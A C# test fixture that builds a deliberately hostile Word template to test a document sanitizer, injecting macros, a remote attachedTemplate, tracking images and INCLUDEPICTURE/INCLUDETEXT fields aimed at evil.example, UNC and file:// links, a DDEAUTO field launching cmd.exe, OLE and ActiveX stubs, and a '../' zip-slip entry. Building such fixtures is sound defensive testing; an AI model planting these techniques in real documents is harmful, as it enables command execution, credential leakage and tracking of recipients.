using System.IO.Compression;
using System.Text;

namespace OfficeReview.OpenXml.Tests.Documents;

/// <summary>
/// The committed bao-cao template with everything a hostile or careless user template can carry added to it (issue #9,
/// item 5): macros and a .docm content type, attachedTemplate, a picture and links pointing outside the package
/// (http, file://, UNC), INCLUDEPICTURE / INCLUDETEXT / DDE / DDEAUTO fields, altChunk, an OLE object, an ActiveX
/// control, custom XML, a VML picture with a URL, a picture whose bytes are not what its name says and a "../" zip entry — plus a picture stored inside and an https
/// link, which must survive.
/// </summary>
internal static class HostileTemplate
{
    public const string Marker = "ĐÁNH DẤU MẪU NGƯỜI DÙNG";

    private const string R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    private const string RelNs = "http://schemas.openxmlformats.org/package/2006/relationships";

    public static readonly byte[] Png =
    [
        0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 0x1F, 0x15, 0xC4,
        0x89, 0, 0, 0, 0x0D, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9C, 0x63, 0xF8, 0xCF, 0xC0, 0xF0, 0x1F, 0, 0x05, 0x00, 0x01, 0xFF, 0x89, 0x99, 0x3D, 0x1D,
        0, 0, 0, 0, 0x49, 0x45, 0x4E, 0x44, 0xAE, 0x42, 0x60, 0x82,
    ];

    private static string Rel(string id, string type, string target, bool external = false) =>
        $"<Relationship Id=\"{id}\" Type=\"{R}/{type}\" Target=\"{System.Security.SecurityElement.Escape(target)}\"{(external ? " TargetMode=\"External\"" : "")}/>";

    private static string Field(string instr, string result) =>
        "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>" +
        $"<w:r><w:instrText xml:space=\"preserve\">{System.Security.SecurityElement.Escape(instr)}</w:instrText></w:r>" +
        "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>" +
        $"<w:r><w:t>{result}</w:t></w:r>" +
        "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";

    private static string Picture(string relAttribute) =>
        "<w:r><w:drawing><wp:inline distT=\"0\" distB=\"0\" distL=\"0\" distR=\"0\"><wp:extent cx=\"90000\" cy=\"90000\"/><wp:docPr id=\"91\" name=\"p\"/>" +
        "<a:graphic xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\"><a:graphicData uri=\"http://schemas.openxmlformats.org/drawingml/2006/picture\">" +
        "<pic:pic xmlns:pic=\"http://schemas.openxmlformats.org/drawingml/2006/picture\"><pic:nvPicPr><pic:cNvPr id=\"0\" name=\"p.png\"/><pic:cNvPicPr/></pic:nvPicPr>" +
        $"<pic:blipFill><a:blip {relAttribute}/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>" +
        "<pic:spPr><a:xfrm><a:off x=\"0\" y=\"0\"/><a:ext cx=\"90000\" cy=\"90000\"/></a:xfrm><a:prstGeom prst=\"rect\"><a:avLst/></a:prstGeom></pic:spPr></pic:pic>" +
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>";

    public static byte[] Build(byte[] template)
    {
        var ms = new MemoryStream();
        ms.Write(template);
        using (var zip = new ZipArchive(ms, ZipArchiveMode.Update, leaveOpen: true))
        {
            string Read(string name)
            {
                using var r = new StreamReader(zip.GetEntry(name)!.Open(), Encoding.UTF8);
                return r.ReadToEnd();
            }
            void Write(string name, string text) => WriteBytes(name, new UTF8Encoding(false).GetBytes(text));
            void WriteBytes(string name, byte[] bytes)
            {
                zip.GetEntry(name)?.Delete();
                using var s = zip.CreateEntry(name).Open();
                s.Write(bytes);
            }

            var types = Read("[Content_Types].xml")
                .Replace("<Default Extension=\"xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\" />",
                    "<Default Extension=\"xml\" ContentType=\"application/xml\" /><Default Extension=\"png\" ContentType=\"image/png\" /><Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\" />" +
                    "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\" />" +
                    "<Override PartName=\"/word/embeddings/oleObject1.bin\" ContentType=\"application/vnd.openxmlformats-officedocument.oleObject\" />" +
                    "<Override PartName=\"/word/activeX/activeX1.xml\" ContentType=\"application/vnd.ms-office.activeX+xml\" />" +
                    "<Override PartName=\"/word/afchunk.mht\" ContentType=\"message/rfc822\" />" +
                    "<Override PartName=\"/customXml/item1.xml\" ContentType=\"application/xml\" />" +
                    "<Override PartName=\"/docProps/custom.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.custom-properties+xml\" />");
            if (!types.Contains("macroEnabled")) throw new InvalidOperationException("content types not as expected");
            Write("[Content_Types].xml", types);

            var rels = Read("word/_rels/document.xml.rels").Replace("</Relationships>",
                Rel("rIdVba", "vbaProject", "vbaProject.bin").Replace(R + "/vbaProject", "http://schemas.microsoft.com/office/2006/relationships/vbaProject") +
                Rel("rIdExtImg", "image", "http://evil.example/track.png", external: true) +
                Rel("rIdImg", "image", "media/logo.png") +
                Rel("rIdFake", "image", "media/fake.png") +
                Rel("rIdFile", "hyperlink", "file:///C:/Windows/System32/calc.exe", external: true) +
                Rel("rIdUnc", "hyperlink", @"\\evil.example\share\x.docx", external: true) +
                Rel("rIdWeb", "hyperlink", "https://example.org/huong-dan", external: true) +
                Rel("rIdAlt", "aFChunk", "afchunk.mht") +
                Rel("rIdOle", "oleObject", "embeddings/oleObject1.bin") +
                Rel("rIdAx", "control", "activeX/activeX1.xml") +
                Rel("rIdCx", "customXml", "../customXml/item1.xml") +
                "</Relationships>");
            Write("word/_rels/document.xml.rels", rels);
            WriteBytes("word/vbaProject.bin", [0xCC, 0x61, 0xFF, 0xFF]);
            WriteBytes("word/media/logo.png", Png);
            WriteBytes("word/media/fake.png", [0x01, 0x00, 0x00, 0x00, 0x6C, 0x00, 0x00, 0x00]); // an EMF header under a .png name
            WriteBytes("word/embeddings/oleObject1.bin", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]);
            Write("word/activeX/activeX1.xml", "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\" ax:classid=\"{8BD21D40-EC42-11CE-9E0D-00AA006002F3}\"/>");
            Write("word/afchunk.mht", "MIME-Version: 1.0\r\n\r\n<html><body>chen</body></html>");
            Write("customXml/item1.xml", "<root><secret>x</secret></root>");
            Write("docProps/custom.xml", "<Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/custom-properties\"/>");
            WriteBytes("../evil.txt", Encoding.ASCII.GetBytes("outside"));

            var settings = Read("word/settings.xml");
            var settingsOpen = settings.IndexOf('>', settings.IndexOf("<w:settings", StringComparison.Ordinal)) + 1;
            settings = settings[..settingsOpen] + $"<w:attachedTemplate xmlns:r=\"{R}\" r:id=\"rIdAt\"/>" + settings[settingsOpen..];
            Write("word/settings.xml", settings);
            Write("word/_rels/settings.xml.rels", $"<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"{RelNs}\">" +
                Rel("rIdAt", "attachedTemplate", @"file://\\evil.example\templates\macro.dotm", external: true) + "</Relationships>");

            var document = Read("word/document.xml");
            var body = document.IndexOf("<w:body>", StringComparison.Ordinal) + "<w:body>".Length;
            var hostile =
                $"<w:p><w:r><w:t>{Marker}</w:t></w:r>" +
                Picture("r:embed=\"rIdImg\"") + Picture("r:link=\"rIdExtImg\"") + Picture("r:embed=\"rIdFake\"") +
                Field(" INCLUDEPICTURE \"http://evil.example/a.png\" \\d ", "ẢNH-NGOÀI") +
                Field(" DDE Excel \"C:\\\\x.xlsx\" R1C1 ", "KQ-2") +
                Field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" ", "KQ-3") +
                Field(" PAGE ", "1") +
                "<w:fldSimple w:instr=\" INCLUDETEXT &quot;\\\\evil.example\\share\\a.docx&quot; \"><w:r><w:t>VĂN-BẢN-NGOÀI</w:t></w:r></w:fldSimple>" +
                "<w:hyperlink r:id=\"rIdFile\"><w:r><w:t>MỞ-TỆP</w:t></w:r></w:hyperlink>" +
                "<w:hyperlink r:id=\"rIdUnc\"><w:r><w:t>MỞ-UNC</w:t></w:r></w:hyperlink>" +
                "<w:hyperlink r:id=\"rIdWeb\"><w:r><w:t>HƯỚNG-DẪN</w:t></w:r></w:hyperlink>" +
                "<w:r><w:object><o:OLEObject xmlns:o=\"urn:schemas-microsoft-com:office:office\" Type=\"Embed\" ProgID=\"Package\" ShapeID=\"_x0000_i1025\" DrawAspect=\"Icon\" ObjectID=\"_1\" r:id=\"rIdOle\"/></w:object></w:r>" +
                "<w:r><w:object><w:control r:id=\"rIdAx\" w:name=\"CommandButton1\"/></w:object></w:r>" +
                "<w:r><w:pict><v:shape xmlns:v=\"urn:schemas-microsoft-com:vml\" id=\"s1\" style=\"width:10pt;height:10pt\"><v:imagedata src=\"http://evil.example/vml.png\"/></v:shape></w:pict></w:r>" +
                "</w:p><w:altChunk r:id=\"rIdAlt\"/>";
            document = document[..body] + hostile + document[body..];
            if (!document.Contains("xmlns:r=")) throw new InvalidOperationException("the template's document has no r prefix");
            if (!document.Contains("xmlns:wp=")) document = document.Replace("<w:document ", "<w:document xmlns:wp=\"http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing\" ");
            Write("word/document.xml", document);
        }
        return ms.ToArray();
    }

    public static List<string> EntryNames(byte[] docx)
    {
        using var zip = new ZipArchive(new MemoryStream(docx), ZipArchiveMode.Read);
        return zip.Entries.Select(e => e.FullName).ToList();
    }

    public static string Entry(byte[] docx, string name)
    {
        using var zip = new ZipArchive(new MemoryStream(docx), ZipArchiveMode.Read);
        using var r = new StreamReader(zip.GetEntry(name)!.Open(), Encoding.UTF8);
        return r.ReadToEnd();
    }

    /// <summary>Every XML and rels part of the package, concatenated (what a search for leftovers looks at).</summary>
    public static string AllXml(byte[] docx)
    {
        using var zip = new ZipArchive(new MemoryStream(docx), ZipArchiveMode.Read);
        var sb = new StringBuilder();
        foreach (var e in zip.Entries.Where(e => e.FullName.EndsWith(".xml", StringComparison.Ordinal) || e.FullName.EndsWith(".rels", StringComparison.Ordinal)))
        {
            using var r = new StreamReader(e.Open(), Encoding.UTF8);
            sb.Append(e.FullName).Append('\n').Append(r.ReadToEnd()).Append('\n');
        }
        return sb.ToString();
    }
}
